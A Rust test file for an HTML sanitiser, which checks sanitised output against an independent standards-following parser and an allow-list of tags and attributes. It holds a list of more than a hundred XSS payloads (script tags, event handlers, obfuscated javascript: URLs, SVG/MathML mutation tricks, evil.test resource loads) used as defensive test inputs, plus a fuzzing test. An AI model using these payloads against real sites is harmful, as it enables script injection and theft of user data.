//! Tests of the sanitiser, against an independent parser that follows the standard.

use html5ever::tendril::TendrilSink;
use html5ever::{ParseOpts, parse_document};
use markup5ever_rcdom::{Handle, NodeData, RcDom};

use super::converted;
use crate::Form;

/// The elements and attributes that sanitised HTML may have, as the test knows them.
const ALLOWED: &str = "a[href rel title id lang] abbr[title] address article aside b bdi bdo blockquote \
    br caption center cite code[class] col colgroup data[value] dd del[datetime] details[open] dfn div[align] dl dt em \
    figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img[src alt width height] ins[datetime] kbd li[value] \
    main mark nav ol[start reversed] p[align] pre[class] q rp rt ruby s samp section small span[class] \
    strong sub summary sup table[class] tbody td[colspan rowspan align] tfoot th[colspan rowspan scope align] \
    thead time[datetime] tr u ul var wbr html head body";

fn sanitised(page: &str) -> String {
    converted(page, Form::SanitisedHtml)
}

/// Checks every element and attribute of `html`, as a browser would parse it.
fn check(html: &str) {
    let dom = parse_document(RcDom::default(), ParseOpts::default()).one(html);
    check_node(&dom.document, html);
}

fn check_node(node: &Handle, html: &str) {
    match &node.data {
        NodeData::Element { name, attrs, .. } => {
            let element = &*name.local;
            let allowed = allowed_attributes(ALLOWED, element);
            let allowed = allowed.unwrap_or_else(|| panic!("<{element}> in {html}"));
            for attribute in attrs.borrow().iter() {
                let (name, value) = (&*attribute.name.local, &*attribute.value);
                let is_allowed = allowed.contains(&name) || matches!(name, "id" | "title" | "lang");
                assert!(is_allowed, "{name} of <{element}> in {html}");
                check_value(name, value, html);
            }
        }
        NodeData::Comment { .. }
        | NodeData::ProcessingInstruction { .. }
        | NodeData::Doctype { .. } => panic!("no element or text: {html}"),
        NodeData::Document | NodeData::Text { .. } => {}
    }
    for child in node.children.borrow().iter() {
        check_node(child, html);
    }
}

fn allowed_attributes<'a>(table: &'a str, element: &str) -> Option<Vec<&'a str>> {
    let mut rest = table;
    loop {
        rest = rest.trim_start();
        if rest.is_empty() {
            return None;
        }
        let end = rest.find([' ', '[']).unwrap_or(rest.len());
        let (name, after) = rest.split_at(end);
        let (attributes, after) = match after.strip_prefix('[') {
            Some(list) => list.split_once(']')?,
            None => ("", after),
        };
        if name == element {
            return Some(attributes.split(' ').collect());
        }
        rest = after;
    }
}

fn check_value(name: &str, value: &str, html: &str) {
    let bare: String =
        value.chars().filter(|letter| !letter.is_control() && *letter != ' ').collect();
    match name {
        "href" => {
            let head = bare.split(['/', '?', '#']).next().unwrap_or("");
            let scheme = head.split_once(':').map(|(scheme, _)| scheme.to_ascii_lowercase());
            let is_known = matches!(scheme.as_deref(), None | Some("http" | "https" | "mailto"));
            assert!(is_known, "{value} in {html}");
        }
        "src" => assert!(
            ["png", "jpeg", "gif", "webp"]
                .iter()
                .any(|kind| bare.to_lowercase().starts_with(&format!("data:image/{kind};base64,"))),
            "{value} in {html}"
        ),
        "id" => assert!(value.starts_with("user-content-"), "{value} in {html}"),
        _ => {}
    }
}

/// Attacks, of the families that sanitisers were broken by.
const ATTACKS: &[&str] = &[
    "<script>steal()</script>after",
    "<SCRIPT SRC=//evil.test/x></SCRIPT>after",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<script/x>steal()</script>",
    "<script>/*</script><b onclick=steal()>*/</script>",
    "<script><!--<script></script>--></script><i onload=x>",
    "<img src=x onerror=steal()>",
    "<img src=x onerror\n=\nsteal()>",
    "<img/src=x/onerror=steal()>",
    "<img src='x'onerror='steal()'>",
    "<img src=\"x` `<script>steal()</script>\"` `>",
    "<img \"\"\"><script>steal()</script>\">",
    "<body onload=steal()>text",
    "<div onmouseover=\"steal()\" onclick='steal()'>text</div>",
    "<p ONCLICK=steal()>text",
    "<p on\u{0}click=steal()>text",
    "<a href=javascript:steal()>link</a>",
    "<a href='JaVaScRiPt:steal()'>link</a>",
    "<a href='java\tscript:steal()'>link</a>",
    "<a href='java\nscript:steal()'>link</a>",
    "<a href='java&#10;script:steal()'>link</a>",
    "<a href='&#106;avascript:steal()'>link</a>",
    "<a href='&#x6A&#x61vascript&colon;steal()'>link</a>",
    "<a href='javascript&#58;steal()'>link</a>",
    "<a href=' \u{1} javascript:steal()'>link</a>",
    "<a href='\u{3000}javascript:steal()'>link</a>",
    "<a href='javas\u{0}cript:steal()'>link</a>",
    "<a href='vbscript:steal()'>link</a>",
    "<a href='data:text/html,<script>steal()</script>'>link</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>link</a>",
    "<a href='feed:javascript:steal()'>link</a>",
    "<a href='blob:https://evil.test/x'>link</a>",
    "<a href='file:///etc/passwd'>link</a>",
    "<a href=x href=javascript:steal()>link</a>",
    "<a href=javascript:steal() href=x>link</a>",
    "<a target=_blank href=https://evil.test rel=opener>link</a>",
    "<a xlink:href=javascript:steal()>link</a>",
    "<svg onload=steal()>text</svg>",
    "<svg><script>steal()</script></svg>",
    "<svg><a xlink:href='javascript:steal()'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:steal()></svg>",
    "<svg><foreignObject><body onload=steal()></foreignObject></svg>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=steal()>\">",
    "<svg><title><img src=x onerror=steal()></title></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=steal()&gt;\">",
    "<math href=javascript:steal()>text</math>",
    "<math><annotation-xml encoding=text/html><script>steal()</script></annotation-xml></math>",
    "<form action=javascript:steal()><input type=submit><button formaction=javascript:steal()>b",
    "<form id=x></form><button form=x formaction=javascript:steal()>b</button>",
    "<input autofocus onfocus=steal()>",
    "<select onchange=steal()><option>a</select>",
    "<textarea autofocus onfocus=steal()></textarea>after",
    "<iframe src=javascript:steal()></iframe>after",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<frameset onload=steal()><frame src=javascript:steal()></frameset>",
    "<object data=javascript:steal()></object>",
    "<object type=text/x-scriptlet data=//evil.test></object>",
    "<embed src=javascript:steal()>",
    "<applet code=x></applet>",
    "<base href=//evil.test/>text",
    "<base href=javascript:steal()//><a href=x>link</a>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=import href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
    "<meta http-equiv=set-cookie content=a=b>",
    "<style>@import '//evil.test/x.css';</style>after",
    "<style>*{background:url(javascript:steal())}</style>",
    "<p style='background:url(//evil.test/x)'>text</p>",
    "<p style=\"width:expression(steal())\">text</p>",
    "<p style='-moz-binding:url(//evil.test)'>text</p>",
    "<img src=//evil.test/pixel.gif>",
    "<img src=https://evil.test/pixel.gif srcset='//evil.test/2x 2x'>",
    "<img src='data:image/svg+xml,<svg onload=steal()>'>",
    "<img src='data:image/png;base64,AA\" onerror=\"steal()'>",
    "<img lowsrc=//evil.test dynsrc=//evil.test>",
    "<video src=//evil.test poster=//evil.test onerror=steal()><source onerror=steal()></video>",
    "<audio src=x onerror=steal()></audio>",
    "<picture><source srcset=//evil.test><img src=x></picture>",
    "<table background=//evil.test/x><td background=javascript:steal()>cell</table>",
    "<body background=//evil.test/x>text",
    "<details open ontoggle=steal()>text</details>",
    "<marquee onstart=steal()>text</marquee>",
    "<keygen autofocus onfocus=steal()>",
    "<isindex action=javascript:steal()>",
    "<noscript><p title=\"</noscript><img src=x onerror=steal()>\">",
    "<noembed><img src=x onerror=steal()></noembed>",
    "<xmp><img src=x onerror=steal()></xmp>",
    "<plaintext><img src=x onerror=steal()>",
    "<title><img src=x onerror=steal()></title>",
    "<template><img src=x onerror=steal()></template>",
    "<!--><img src=x onerror=steal()>-->",
    "<!-- --!><img src=x onerror=steal()>",
    "<!--[if IE]><script>steal()</script><![endif]-->",
    "<![CDATA[<img src=x onerror=steal()>]]>",
    "<?xml-stylesheet href=javascript:steal()?>text",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<b <script>steal()</script>>text",
    "<b/onclick=steal()//text>x</b>",
    "<<b onclick=steal()>text",
    "<x onclick=steal()>text</x>",
    "<p id=location name=cookie class=admin-only>text</p>",
    "<a id=\"x\" name=\"y\" ping=//evil.test href=z>link</a>",
    "<p title='\"><script>steal()</script>'>text</p>",
    "<p title='</p><script>steal()</script>'>text</p>",
    "<code class='language-x\" onclick=\"steal()'>c</code>",
    "<span class='hl-a onclick=steal()'>c</span>",
    "<p lang='\" onclick=steal()'>text</p>",
    "&lt;script&gt;steal()&lt;/script&gt;",
    "<table><tr><td><select><template><svg><style><b title=\"</style><img onerror=steal() src=1>\">",
    "<p><svg><mtext><p><style><a title=\"</style><img src onerror=steal()>\">",
    "+ADw-script+AD4-steal()+ADw-/script+AD4-",
    "<img src=x:x onerror=steal()//",
    "<a href='//evil.test/javascript:steal()' onclick=1>link",
    "<bdo dir=rtl onclick=steal()>text</bdo>",
    "<dialog open onclose=steal()>text</dialog>",
];

#[test]
fn no_known_attack_leaves_anything_but_what_is_allowed() {
    assert!(ATTACKS.len() >= 60);
    for attack in ATTACKS {
        let html = sanitised(attack);
        check(&html);
        // Attacks that hide in what comes around them.
        check(&sanitised(&format!("<table><tr><td><p>{attack}</table>")));
        check(&sanitised(&format!("<svg>{attack}")));
        check(&sanitised(&format!("<math><mtext>{attack}")));
        check(&sanitised(&format!("<textarea>{attack}</textarea>{attack}")));
        // What is sanitised stays as it is.
        check(&sanitised(&html));
    }
}

#[test]
fn the_check_refuses_what_is_not_sanitised() {
    for page in
        ["<script>x</script>", "<b onclick=x>", "<a href=javascript:x>", "<p id=x>", "<!--x-->"]
    {
        assert!(std::panic::catch_unwind(|| check(page)).is_err(), "{page}");
    }
}

#[test]
fn pieces_of_attacks_in_any_order_leave_nothing_else() {
    let pieces: Vec<&str> =
        ATTACKS.iter().flat_map(|attack| attack.split_inclusive(['>', '"'])).collect();
    let mut state = 7_u64;
    for _ in 0..3_000 {
        let mut page = String::new();
        for _ in 0..12 {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            page.push_str(pieces[usize::try_from(state >> 33).unwrap() % pieces.len()]);
        }
        check(&sanitised(&page));
    }
}

#[test]
fn content_and_structure_stay() {
    let page = "<h1 id=a>T</h1><p>x <b>y</b> &lt;z&gt; <a href='rel.html?a=1&b=2'>r</a> <a href='#a'>f</a>\
                <table><tr><th colspan=2 onclick=x>1</table><center>c</center><input type=checkbox>";
    let html = sanitised(page);
    assert_eq!(
        html,
        "<h1 id=\"user-content-a\">T</h1><p>x <b>y</b> &lt;z&gt; \
         <a href=\"rel.html?a=1&amp;b=2\" rel=\"noreferrer noopener\">r</a> \
         <a href=\"#user-content-a\" rel=\"noreferrer noopener\">f</a></p>\
         <table><tr><th colspan=\"2\">1</th></tr></table><center>c</center>☐ "
    );
}

#[test]
fn images_in_the_page_stay_and_others_become_links() {
    let html = sanitised(
        "<img alt=a src='data:image/png;base64,iVBORw0KGgo='><img src='https://e.test/i.png' alt='b<'>\
         <a href=x><img src=y.png alt=c></a>",
    );
    assert_eq!(
        html,
        "<img alt=\"a\" src=\"data:image/png;base64,iVBORw0KGgo=\">\
         <a href=\"https://e.test/i.png\" rel=\"noreferrer noopener\">b&lt;</a>\
         <a href=\"x\" rel=\"noreferrer noopener\">c</a>"
    );
}
